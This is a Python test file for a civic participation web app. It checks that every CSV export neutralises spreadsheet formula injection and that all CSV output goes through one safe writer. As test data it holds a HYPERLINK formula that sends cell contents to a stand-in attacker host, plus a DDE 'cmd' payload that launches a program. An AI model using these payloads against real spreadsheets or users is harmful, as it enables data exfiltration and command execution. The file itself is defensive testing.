"""CSV exports opened in a spreadsheet: text written by residents that starts like a formula
(= + - @) is exported with a leading apostrophe, so the spreadsheet shows it and runs nothing.
Found by these tests: only the moderation audit log was protected; the open-data proposals,
consultation responses and aggregates, and budget results exported formulas as typed."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from budgets import services as budget_services
from budgets.jobs import tally_budget
from budgets.models import Phase, Project
from participation import spreadsheet
from participation.settings import Settings
from participation.spreadsheet import safe_cell
from tests.budgets.test_results import closed_budget
from tests.conftest import post_form
from tests.consultations.factories import valid_answers
from tests.participation.proposal_factories import make_proposal
from tests.security.walks import feature_walks
from tests.security.world import app_routes, logged_in_client, seed_world, urls_in_every_phase
from tests.sources import ROOT, source_files

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_formula_starts_are_neutralised_and_numbers_kept() -> None:
    for formula in ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Un titre = correct") == "Un titre = correct"
    assert safe_cell(-3) == -3 and safe_cell(None) is None


async def test_the_open_data_export_of_proposals(app: Any, settings: Settings) -> None:
    world = await seed_world(settings)
    await make_proposal(world.owner, title=FORMULA, body="<p>@SUM(1+1) dans le texte</p>")
    async with logged_in_client(app, None) as visitor:
        cells = _cells((await visitor.get("/proposals.csv")).text)
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'@SUM(1+1) dans le texte" in cells


async def test_consultation_responses(app: Any, settings: Settings) -> None:
    world = await seed_world(settings)
    consultation = world.ids["consultation_id"]
    from consultations.models import Question

    questions = await Question.filter(consultation_id=consultation).order_by("position")
    keys = ["single", "multiple", "ranking", "scale", "majority", "number", "short", "why"]
    answers = dict(await valid_answers(dict(zip(keys, questions, strict=True))))
    answers[f"q{questions[6].id}"] = "-1+1 et @A1"
    async with logged_in_client(app, world.owner) as owner:
        response = await post_form(owner, f"/consultations/{consultation}/answer", answers)
        assert response.status_code == 303
    from consultations import queries, services

    views = await queries.questionnaire(consultation)
    await services.compute_results(settings, consultation)  # registers the texts to review
    for text in await queries.free_texts(views):  # published once approved
        await services.review_text(text.question.id, text.digest, True)
    async with logged_in_client(app, world.admin) as admin:
        cells = _cells((await admin.get(f"/consultations/{consultation}/responses.csv")).text)
    assert "'-1+1 et @A1" in cells and "-1+1 et @A1" not in cells


async def test_budget_results(app: Any, settings: Settings) -> None:
    budget, projects, _ = await closed_budget(settings)
    await Project.filter(id=projects["Skatepark"].id).update(title="@SUM(A1:A9)")
    await tally_budget({}, budget.id)
    await budget_services.switch_phase(budget.id, Phase.RESULTS, by_user=None)
    async with logged_in_client(app, None) as visitor:
        text = (await visitor.get(f"/budgets/{budget.id}/results.csv")).text
    cells = _cells(text, ";")
    assert "'@SUM(A1:A9)" in cells and "@SUM(A1:A9)" not in cells


# --- one writer, no way around it -------------------------------------------------------------

WRITERS = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
)


def test_no_module_but_the_spreadsheet_writer_writes_csv() -> None:
    """Every CSV goes through `participation.spreadsheet.writer`, which neutralises each cell;
    a module writing CSV itself could forget it (the indicators export did)."""
    assert len(source_files()) > 50
    writers = [
        str(path.relative_to(ROOT))
        for path in source_files()
        if WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == ["participation/spreadsheet.py"]
    keeping = [
        str(path.relative_to(ROOT))
        for path in source_files()
        if "keep_formulas=True" in path.read_text(encoding="utf-8")
        and path.name != "spreadsheet.py"  # which explains it
    ]
    # Pabulib files are read by programs and must round-trip their names (docs/security.md)
    assert keeping == ["tally/pabulib.py"]


def test_the_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    spreadsheet.writer(out, delimiter=";").writerows([[FORMULA, "+1", -2, None, "ok"]])
    assert _cells(out.getvalue(), ";") == ["'" + FORMULA, "'+1", "-2", "", "ok"]
    kept = io.StringIO()
    spreadsheet.writer(kept, keep_formulas=True).writerow(["=1+1"])
    assert kept.getvalue().strip() == "=1+1"


async def _rename(model: Any, start: str) -> None:
    """Names unique per row (UNIQUE constraints), each starting like a formula."""
    for row_id in await model.all().values_list("id", flat=True):
        await model.filter(id=row_id).update(name=f"{start}{FORMULA[:80]}{row_id}")


async def _formulas_everywhere(settings: Settings, world: Any) -> None:
    """Formula-like text in every text a CSV export shows: names, labels, reasons; each
    feature's titles and texts (tests/<name>/walks.py), in the order of `FEATURES`."""
    from participation.accounts.models import User
    from participation.audit import audit
    from participation.residents.models import District
    from participation.territory import Category

    await _rename(District, "-")
    await _rename(Category, "+")
    await User.all().update(display_name="=" + "HYPERLINK(1)")
    await audit(world.admin, "=" + "cmd|' /C calc'!A0", "@x", 1, {"k": FORMULA}, {}, FORMULA)
    for walks in feature_walks():  # each feature's texts (tests/<name>/walks.py)
        if walks.formulas is not None:
            await walks.formulas(settings, world, FORMULA)


async def test_every_csv_export_neutralises_every_text_column(app: Any, settings: Settings) -> None:
    """Every GET route, in every phase of the world's budgets and consultations, as an
    administrator: each answer that is a CSV has formula text in it, and no cell that a
    spreadsheet would run."""
    world = await seed_world(settings)
    await _formulas_everywhere(settings, world)
    exports: dict[str, int] = {}
    async with logged_in_client(app, world.admin) as admin:
        for endpoint in app_routes(app):
            if endpoint.method != "GET" or endpoint.path.startswith("/static"):
                continue
            for phase, url in urls_in_every_phase(endpoint, world):
                response = await admin.get(url)
                if not response.headers.get("content-type", "").startswith("text/csv"):
                    continue
                delimiter = ";" if response.text.count(";") > response.text.count(",") else ","
                cells = _cells(response.text, delimiter)
                # a negative number (a longitude west of Greenwich) is a number, not a formula
                running = [
                    c
                    for c in cells
                    if c.startswith(safe_formula_starts()) and not NEGATIVE_NUMBER.fullmatch(c)
                ]
                assert running == [], (str(endpoint), phase, running[:3])
                neutralised = [c for c in cells if c.startswith("'")]
                exports[str(endpoint)] = exports.get(str(endpoint), 0) + len(neutralised)
    assert set(exports) == CORE_CSV_EXPORTS.union(*(w.csv_exports for w in feature_walks()))
    # the formula text reached each export (a title, a name, a label, a reason...)
    assert all(count > 0 for count in exports.values()), exports


# the core's CSV exports; each feature's are in its tests/<name>/walks.py
CORE_CSV_EXPORTS = frozenset({"GET /admin/audit.csv", "GET /donnees-ouvertes/{name}/{file}"})
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")


def safe_formula_starts() -> tuple[str, ...]:
    return spreadsheet.FORMULA_START
